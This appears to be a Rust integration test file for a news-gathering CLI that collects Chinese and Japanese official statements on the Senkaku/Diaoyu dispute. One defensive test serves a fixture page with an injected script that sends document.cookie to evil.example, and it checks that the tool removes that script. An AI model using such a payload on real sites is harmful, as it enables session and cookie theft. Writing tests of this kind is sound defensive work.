//! `parallax gather` through the real binary, against channels served from
//! 127.0.0.1: a source pack whose items say whose words they are, drafted into
//! an article; a second gather that finds nothing new; an item edited upstream.

use std::time::{Duration, SystemTime};

use crate::support::{Parallax, read, read_json, scratch, write};
use testkit::web::{Reply, Web};

pub(crate) fn rss(items: &[(&str, &str, SystemTime)]) -> String {
    let items: String = items
        .iter()
        .map(|(title, link, at)| {
            format!(
                "<entry><title>{title}</title><link href=\"{link}\"/><id>{link}</id><updated>{}</updated></entry>",
                humantime::format_rfc3339_seconds(*at)
            )
        })
        .collect();
    format!(
        "<?xml version=\"1.0\"?><feed xmlns=\"http://www.w3.org/2005/Atom\"><title>t</title>{items}</feed>"
    )
}

pub(crate) const BRIEFING: &str = "Mao Ning: Good afternoon. I have no announcements today.\n\nCCTV: Japan says the new export rules on the Diaoyu Islands area are \"a threat\". What is China's comment?\n\nMao Ning: The Diaoyu Islands are China's inherent territory. China firmly opposes Japan's moves.\n";
pub(crate) const TOKYO: &str = "The Chief Cabinet Secretary said Japan lodged a strong protest over Chinese ships near the Senkaku Islands.\n";

pub(crate) fn channel(dir: &std::path::Path, id: &str, side: &str, url: &str, flags: &str) {
    std::fs::create_dir_all(dir.join("channels")).unwrap();
    write(
        dir.join(format!("channels/{id}.toml")),
        format!(
            "id = \"{id}\"\nside = \"{side}\"\noffice = \"Office of {side}\"\nlanguage = \"en\"\nkind = \"feed\"\nurl = \"{url}\"\nformat = \"transcript\"\nlicence = \"Licence of {side}\"\nattribution = \"Office of {side}\"\nflags = [{flags}]\npace = \"0s\"\n"
        ),
    );
}

#[test]
fn each_sides_channels_gather_into_a_pack_that_drafts() {
    let web = Web::start();
    let now = SystemTime::now();
    let old = now - Duration::from_secs(30 * 86_400);
    // Every answer carries a validator, as real sites' do.
    web.route("/robots.txt", Reply::ok("text/plain", "User-agent: *\nAllow: /\n").header("ETag", "\"r1\""));
    web.route("/cn/briefing", Reply::ok("text/plain; charset=utf-8", BRIEFING).header("ETag", "\"b1\""));
    web.route(
        "/cn/old",
        Reply::ok("text/plain; charset=utf-8", "Mao Ning: The Diaoyu Islands, a month ago."),
    );
    web.route("/cn/other", Reply::ok("text/plain; charset=utf-8", "Mao Ning: On the weather today."));
    web.route("/jp/statement", Reply::ok("text/plain; charset=utf-8", TOKYO).header("ETag", "\"j1\""));
    let cn_feed = rss(&[
        ("Briefing", &web.url("/cn/briefing"), now),
        ("Old", &web.url("/cn/old"), old),
        ("Other", &web.url("/cn/other"), now),
    ]);
    web.route("/cn.xml", Reply::ok("application/atom+xml", cn_feed).header("ETag", "\"c1\""));
    web.route(
        "/jp.xml",
        Reply::ok("application/atom+xml", rss(&[("Protest", &web.url("/jp/statement"), now)]))
            .header("ETag", "\"f1\""),
    );
    web.route("/kr.xml", Reply::ok("text/html", "<html><body>Technical difficulties</body></html>"));
    let dir = scratch();
    channel(&dir, "cn-test", "china", &web.url("/cn.xml"), "\"official record, may omit exchanges\"");
    channel(&dir, "jp-test", "japan", &web.url("/jp.xml"), "");
    channel(&dir, "kr-test", "south-korea", &web.url("/kr.xml"), "");
    let gather = || {
        Parallax::new(&dir)
            .args(["gather", "--persona", "prism", "--topic", "senkaku", "--since", "7d", "-o", "pack"])
            .args(["--channels", "channels", "--allow-private", "--json"])
            .args(["--channel", "cn-test", "--channel", "jp-test", "--channel", "kr-test"])
            .succeeds()
    };
    let r = gather();
    assert!(r.stderr.contains("china: 1 item(s)") && r.stderr.contains("japan: 1 item(s)"), "{}", r.stderr);
    assert!(r.stderr.contains("south-korea: 0 item(s)") && r.stderr.contains("not a feed"), "{}", r.stderr);
    let pack = read_json(dir.join("pack/pack.json"));
    let items = pack["items"].as_array().unwrap();
    assert_eq!(items.len(), 2, "{pack}");
    let cn = items.iter().find(|i| i["side"] == "china").unwrap();
    let file = read(dir.join("pack").join(cn["file"].as_str().unwrap()));
    for field in [
        "perspective: \"china\"",
        "channel: \"cn-test\"",
        "licence: \"Licence of china\"",
        "official record, may omit exchanges",
    ] {
        assert!(file.contains(field), "{field} in {file}");
    }

    // The pack drafts: China's position from its spokesperson's turns, never the question.
    Parallax::new(&dir)
        .draft(["pack", "--persona", "prism", "-o", "a.json", "--format", "json,md"])
        .succeeds();
    let a = read_json(dir.join("a.json"));
    // Each item's licence and provenance reach the reader and the record.
    let listed =
        a["sources"].as_array().unwrap().iter().find(|s| s["licence"] == "Licence of china").cloned();
    let listed = listed.unwrap_or_else(|| panic!("{}", a["sources"]));
    assert_eq!(listed["provenance"], serde_json::json!(["official record, may omit exchanges"]));
    let md = read(dir.join("a.md"));
    assert!(md.contains("Licence of china; official record, may omit exchanges"), "{md}");
    let record = read(dir.join("a.provenance.json"));
    assert!(record.contains("official record, may omit exchanges"), "{record}");
    let china = a["perspectives"].as_array().unwrap().iter().find(|p| p["id"] == "china").unwrap();
    assert_eq!(china["stated"], true, "{china}");
    assert!(!china["position"]["text"].as_str().unwrap().contains("a threat"), "{china}");

    // Nothing new upstream: every request conditional (the site answers 304),
    // no item written again, no snapshot; an edited item keeps its first snapshot.
    let before = web.asked().len();
    let written = |d: &std::path::Path| -> Vec<(String, std::time::SystemTime)> {
        let mut v: Vec<_> = std::fs::read_dir(d.join("pack"))
            .unwrap()
            .map(|e| e.unwrap())
            .filter(|e| e.path().extension().is_some_and(|x| x == "md"))
            .map(|e| (e.file_name().to_string_lossy().to_string(), e.metadata().unwrap().modified().unwrap()))
            .collect();
        v.sort();
        v
    };
    let items_before = written(&dir);
    gather();
    let again: Vec<(String, bool)> = web.asked()[before..].to_vec();
    let on_topic_or_listed =
        |p: &str| matches!(p, "/robots.txt" | "/cn.xml" | "/jp.xml" | "/cn/briefing" | "/jp/statement");
    assert!(again.iter().any(|(p, _)| p == "/cn.xml"), "{again:?}");
    assert!(
        again.iter().filter(|(p, _)| on_topic_or_listed(p)).all(|(_, conditional)| *conditional),
        "only conditional requests for what was fetched before: {again:?}"
    );
    assert_eq!(written(&dir), items_before, "no item written again");
    assert!(!dir.join("pack/.snapshots").exists());
    web.route(
        "/cn/briefing",
        Reply::ok("text/plain; charset=utf-8", BRIEFING.replace("firmly opposes", "strongly opposes"))
            .header("ETag", "\"b2\""),
    );
    gather();
    let kept = std::fs::read_dir(dir.join("pack/.snapshots")).unwrap().count();
    assert_eq!(kept, 1, "the first snapshot of the edited item is kept");
}

#[test]
fn a_sites_robots_txt_is_obeyed() {
    let web = Web::start();
    let now = SystemTime::now();
    web.route("/robots.txt", Reply::ok("text/plain", "User-agent: *\nDisallow: /jp/\n"));
    web.route("/jp/statement", Reply::ok("text/plain; charset=utf-8", TOKYO));
    web.route(
        "/feeds/jp.xml",
        Reply::ok("application/atom+xml", rss(&[("Protest", &web.url("/jp/statement"), now)])),
    );
    let dir = scratch();
    channel(&dir, "jp-test", "japan", &web.url("/feeds/jp.xml"), "");
    let r = Parallax::new(&dir)
        .args(["gather", "--persona", "prism", "--topic", "senkaku", "--since", "7d", "-o", "pack"])
        .args(["--channels", "channels", "--allow-private", "--json", "--channel", "jp-test"])
        .succeeds();
    assert!(r.stderr.contains("japan: 0 item(s)"), "{}", r.stderr);
    let pack = read_json(dir.join("pack/pack.json"));
    let skipped = pack["skipped"].to_string();
    assert!(skipped.contains("robots.txt does not allow it"), "{pack}");
    assert_eq!(web.hits("/jp/statement"), 0, "a disallowed page is never asked for");
}

#[test]
fn a_hostile_item_is_refused_or_neutralised_and_nothing_else_is_lost() {
    let web = Web::start();
    let now = SystemTime::now();
    web.route(
        "/script",
        Reply::ok(
            "text/html; charset=utf-8",
            "<html><body><article><p>The ministry said the Senkaku Islands talks would resume.</p><script>fetch('https://evil.example/'+document.cookie)</script><p onclick=\"steal()\">It said Japan protested over the Senkaku Islands again.</p></article></body></html>",
        ),
    );
    web.route("/huge", Reply::ok("text/plain", vec![b'a'; 50 * 1024 * 1024]));
    web.route("/good", Reply::ok("text/plain; charset=utf-8", TOKYO));
    // The feed lists a page on another loopback address, which the run has
    // not allowed: only this server's own host and port are.
    let private = web.url("/good").replace("127.0.0.1", "127.0.0.2");
    let feed = rss(&[
        ("Script", &web.url("/script"), now),
        ("Huge", &web.url("/huge"), now),
        ("Private", &private, now),
        ("Good", &web.url("/good"), now),
    ]);
    web.route("/jp.xml", Reply::ok("application/atom+xml", feed));
    let dir = scratch();
    channel(&dir, "jp-test", "japan", &web.url("/jp.xml"), "");
    let host = web.url("").trim_start_matches("http://").trim_end_matches('/').to_string();
    write(dir.join("trusted.toml"), format!("[fetch]\nallow = [\"{host}\"]\n"));
    let r = Parallax::new(&dir)
        .args([
            "gather",
            "--persona",
            "prism",
            "--topic",
            "senkaku",
            "-o",
            "pack",
            "--config",
            "trusted.toml",
        ])
        .args(["--channels", "channels", "--json", "--channel", "jp-test"])
        .succeeds();
    let pack = read_json(dir.join("pack/pack.json"));
    let kept: Vec<&str> =
        pack["items"].as_array().unwrap().iter().map(|i| i["url"].as_str().unwrap()).collect();
    assert!(
        kept.contains(&web.url("/good").as_str()) && kept.contains(&web.url("/script").as_str()),
        "{pack}\n{}",
        r.stderr
    );
    let skipped = pack["skipped"].as_array().unwrap();
    let reason = |url: &str| {
        skipped
            .iter()
            .find(|s| s["url"] == url)
            .map(|s| s["reason"].as_str().unwrap().to_string())
            .unwrap_or_else(|| panic!("{url} not skipped: {pack}"))
    };
    assert!(reason(&web.url("/huge")).contains("limit"), "{pack}");
    assert!(reason(&private).contains("127.0.0.2"), "{pack}");
    assert!(!reason(&private).contains('\n'), "one line each");
    let item = pack["items"].as_array().unwrap().iter().find(|i| i["url"] == web.url("/script")).unwrap();
    let text = read(dir.join("pack").join(item["file"].as_str().unwrap()));
    assert!(
        text.contains("Japan protested") && !text.contains("document.cookie") && !text.contains("steal()"),
        "{text}"
    );
}

#[test]
fn a_topics_file_gathers_a_pack_per_topic_and_a_batch_that_drafts_them() {
    let web = Web::start();
    let now = SystemTime::now();
    web.route("/cn/briefing", Reply::ok("text/plain; charset=utf-8", BRIEFING));
    web.route("/jp/statement", Reply::ok("text/plain; charset=utf-8", TOKYO));
    web.route(
        "/cn.xml",
        Reply::ok("application/atom+xml", rss(&[("Briefing", &web.url("/cn/briefing"), now)])),
    );
    web.route(
        "/jp.xml",
        Reply::ok("application/atom+xml", rss(&[("Protest", &web.url("/jp/statement"), now)])),
    );
    let dir = scratch();
    channel(&dir, "cn-test", "china", &web.url("/cn.xml"), "");
    channel(&dir, "jp-test", "japan", &web.url("/jp.xml"), "");
    write(
        dir.join("topics.toml"),
        "[[topic]]\nid = \"senkaku\"\n\n[[topic]]\nid = \"tariffs\"\ntopic = \"tariffs,customs duties\"\nsince = \"2d\"\n",
    );
    let r = Parallax::new(&dir)
        .args(["gather", "--persona", "prism", "--manifest", "topics.toml", "--since", "7d", "-o", "nightly"])
        .args(["--channels", "channels", "--allow-private", "--channel", "cn-test", "--channel", "jp-test"])
        .succeeds();
    assert!(r.stderr.contains("no item on tariffs"), "{}", r.stderr);
    assert_eq!(read_json(dir.join("nightly/senkaku/pack.json"))["sides"]["china"], 1);
    assert!(dir.join("nightly/tariffs/pack.json").exists());
    let manifest = read(dir.join("nightly/batch.jsonl"));
    assert_eq!(manifest.lines().count(), 1, "a topic with no item makes no story: {manifest}");
    // The second command of the night.
    Parallax::new(&dir).args(["batch", "nightly/batch.jsonl", "--out", "out"]).succeeds();
    let article = read_json(dir.join("out/senkaku.json"));
    let china = article["perspectives"].as_array().unwrap().iter().find(|p| p["id"] == "china").unwrap();
    assert_eq!(china["stated"], true, "{china}");
}

#[test]
fn a_persona_may_name_the_channels_of_each_side() {
    let web = Web::start();
    let now = SystemTime::now();
    web.route("/jp/statement", Reply::ok("text/plain; charset=utf-8", TOKYO));
    web.route("/jp/other", Reply::ok("text/plain; charset=utf-8", TOKYO.replace("protest", "complaint")));
    web.route(
        "/jp.xml",
        Reply::ok("application/atom+xml", rss(&[("Protest", &web.url("/jp/statement"), now)])),
    );
    web.route("/jp2.xml", Reply::ok("application/atom+xml", rss(&[("Other", &web.url("/jp/other"), now)])));
    let dir = scratch();
    channel(&dir, "jp-named", "japan", &web.url("/jp.xml"), "");
    channel(&dir, "jp-unnamed", "japan", &web.url("/jp2.xml"), "");
    let prism = read(crate::support::root().join("personas/prism.md"));
    let named = prism.replacen("    languages: [ja]\n", "    languages: [ja]\n    channels: [jp-named]\n", 1);
    assert_ne!(named, prism);
    std::fs::create_dir_all(dir.join("personas")).unwrap();
    write(dir.join("personas/prism.md"), &named);
    let gather = || {
        Parallax::new(&dir)
            .args([
                "gather",
                "--persona",
                "prism",
                "--topic",
                "senkaku",
                "-o",
                "pack",
                "--personas",
                "personas",
            ])
            .args([
                "--channels",
                "channels",
                "--allow-private",
                "--channel",
                "jp-named",
                "--channel",
                "jp-unnamed",
            ])
    };
    gather().succeeds();
    assert_eq!(web.hits("/jp.xml"), 1);
    assert_eq!(web.hits("/jp2.xml"), 0, "a channel the side does not name is not read");
    write(dir.join("personas/prism.md"), named.replace("[jp-named]", "[jp-gone]"));
    let r = gather().fails_with(2);
    assert!(r.stderr.contains("jp-gone") && r.stderr.lines().count() == 1, "{}", r.stderr);
}
